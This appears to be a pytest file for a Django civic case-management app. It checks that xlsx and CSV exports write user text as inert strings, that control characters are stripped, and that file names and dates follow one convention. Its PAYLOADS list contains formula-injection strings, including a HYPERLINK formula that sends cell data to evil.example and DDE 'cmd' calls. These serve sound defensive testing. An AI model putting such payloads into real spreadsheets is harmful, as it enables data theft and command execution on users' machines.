"""Issue 11 items 6 and 7, issue 13 item 19: every export writes user text as inert text, survives
control characters, and follows one file-name and date convention."""
import csv
import datetime as dt
import io
import json
from urllib.parse import unquote

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from civicgrid.cases import services as S
from civicgrid.cases.models import Case, Category
from civicgrid.core import spreadsheet
from civicgrid.people import services as P
from tests.people.conftest import homes, ident  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&G2&H2, "查看现场照片")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝HYPERLINK(\"http://evil.example\")",
]


def _cases(t, descriptions):
    cat = Category.objects.get(code="01037")
    return [S.intake(t.users["operator"], channel="hotline", category=cat, description=d, lng=116.005, lat=39.905,
                     requester_name="王小明", requester_phone="13812345678") for d in descriptions]


def _sheet(resp):
    assert resp.status_code == 200, resp.content[:300]
    return load_workbook(io.BytesIO(resp.content)).active


def test_case_export_writes_formulas_as_inert_text(territory, client):
    _cases(territory, PAYLOADS)
    client.force_login(territory.users["commander"])
    ws = _sheet(client.get("/cases/export.xlsx?view=all"))
    cells = {str(row[5].value).lstrip(): row[5] for row in ws.iter_rows(min_row=2)}
    for payload in PAYLOADS:
        cell = next(c for v, c in cells.items() if payload.strip("\t\r").lstrip() in v or v in payload)
        assert cell.data_type == "s", (payload, cell.data_type)  # a string, never "f"
    risky = [c for c in cells.values() if spreadsheet.risky(c.value)]
    assert risky and all(c.quotePrefix for c in risky)  # stays text even after the user edits the cell
    # No formula anywhere in the file.
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_control_characters_stored_before_the_fix_still_export(territory, client):
    (case,) = _cases(territory, ["路灯不亮"])
    # What an older version stored (and what a direct write could still store): ESC, NUL, vertical tab.
    from django.db import connection

    nul = "\x00" if connection.vendor == "sqlite" else ""  # PostgreSQL refuses NUL in text itself
    Case.objects.filter(pk=case.pk).update(description=f"路灯\x1b[31m不亮{nul}\x0b了", address="学院路\x07")
    client.force_login(territory.users["commander"])
    ws = _sheet(client.get("/cases/export.xlsx?view=all"))
    row = next(ws.iter_rows(min_row=2, values_only=True))
    assert row[5] == "路灯[31m不亮了" and row[6] == "学院路"


def test_control_characters_are_cleaned_at_input_on_every_channel(territory, client):
    from civicgrid.api import services as api_services

    cat = Category.objects.get(code="01037")
    # A form post (the staff report form).
    client.force_login(territory.users["worker_A1a"])
    client.post("/cases/report/", {"category": cat.pk, "description": "表单\x1b上报\x00", "lng": "116.005",
                                   "lat": "39.905"})
    # The JSON API (control characters arrive escaped: \u001b).
    raw = api_services.issue_token(None, user=territory.users["operator"], name="t")[1]
    r = client.post("/api/v1/cases", data=json.dumps({"category_code": "01037", "description": "接口\u001b上报\u0000",
                                                       "lng": 116.005, "lat": 39.905}),
                    content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {raw}")
    assert r.status_code == 201, r.content
    # Open311 (form-encoded, machine client).
    key = api_services.create_client(None, name="app", region=territory.district)[1]
    client.post("/open311/v2/requests.json", {"api_key": key, "service_code": "01037", "lat": "39.905",
                                              "long": "116.005", "description": "开放接口\x1b上报\x00"})
    texts = list(Case.objects.values_list("description", flat=True))
    assert {"表单上报", "接口上报"} <= set(texts) and any(t.startswith("开放接口上报") for t in texts), texts
    assert not any(ch in t for t in texts for ch in "\x00\x1b")


def test_json_body_control_characters_are_cleaned(territory, rf):
    from civicgrid.core.middleware import CleanInputMiddleware

    seen = {}

    def view(request):
        seen["body"] = json.loads(request.body)
        seen["q"] = request.GET.get("q")
        from django.http import HttpResponse

        return HttpResponse("ok")

    req = rf.post("/api/v1/cases?q=%00%1b110", data=json.dumps({"description": "坏了\u001b\u0000", "n": [1, "\u0007x"]}),
                  content_type="application/json")
    CleanInputMiddleware(view)(req)
    assert seen == {"body": {"description": "坏了", "n": [1, "x"]}, "q": "110"}
    # A hostile, deeply nested body is left for the API to refuse (no RecursionError here).
    deep = "[" * 100000 + "]" * 100000
    req = rf.post("/api/v1/cases", data=deep.replace("[]", '["\\u001b"]', 1), content_type="application/json")
    assert CleanInputMiddleware(lambda r: "passed")(req) == "passed"


def test_people_export_and_file_names(homes, client):
    staff = homes["t"].users["staff_A1"]
    b = P.create_building(staff, community=homes["t"].communities["A1"], name="=HYPERLINK(\"http://x\")",
                          address="-1+cmd", lng=116.005, lat=39.905)
    room = P.room_at(staff, b, "1单元", "101")
    P.create_person(staff, {"name": "王五", "id_number": ident(301)}, room=room)
    client.force_login(staff)
    resp = client.post("/people/export/", {})
    assert resp["Content-Disposition"] == \
        f"attachment; filename*=utf-8''{__import__('urllib.parse').parse.quote('居民-' + timezone.localdate().isoformat() + '.xlsx')}"
    ws = _sheet(resp)
    rows = list(ws.iter_rows(min_row=2))
    target = next(r for r in rows if r[0].value == "王五")
    assert target[9].value.startswith("-1+cmd") and "=HYPERLINK" in target[9].value
    assert target[9].data_type == "s" and target[9].quotePrefix
    assert isinstance(target[2].value, dt.datetime) and target[2].number_format == "yyyy-mm-dd"  # ISO dates


def test_case_export_file_name_and_iso_dates(territory, client):
    _cases(territory, ["路灯不亮"])
    client.force_login(territory.users["commander"])
    resp = client.get("/cases/export.xlsx?view=all")
    name = unquote(resp["Content-Disposition"].split("''", 1)[1])
    assert name == f"案件-{timezone.localdate().isoformat()}.xlsx" and resp["Cache-Control"] == "no-store"
    row = next(_sheet(resp).iter_rows(min_row=2))
    assert row[1].number_format == "yyyy-mm-dd hh:mm" and isinstance(row[1].value, dt.datetime)


def test_csv_writer_neutralises_formulas_and_round_trips():
    raw = spreadsheet.csv_bytes(["a", "b"], [["=1+1", "-2"], ["@x", "正常"], ["\t=cmd", "+86 138"]])
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1] == ["'=1+1", "'-2"] and rows[2] == ["'@x", "正常"] and rows[3][0] == "'\t=cmd"
    assert [spreadsheet.unquote(v) for v in rows[1]] == ["=1+1", "-2"]


def test_no_export_module_builds_workbooks_itself():
    """The shared writer is the only place that creates workbooks for download (a new export that
    bypasses it would write formulas live again)."""
    import pathlib

    import civicgrid

    root = pathlib.Path(civicgrid.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name in ("spreadsheet.py",) or "migrations" in path.parts:
            continue
        if "Workbook(" in text and "template_xlsx" not in text or "csv.writer(" in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
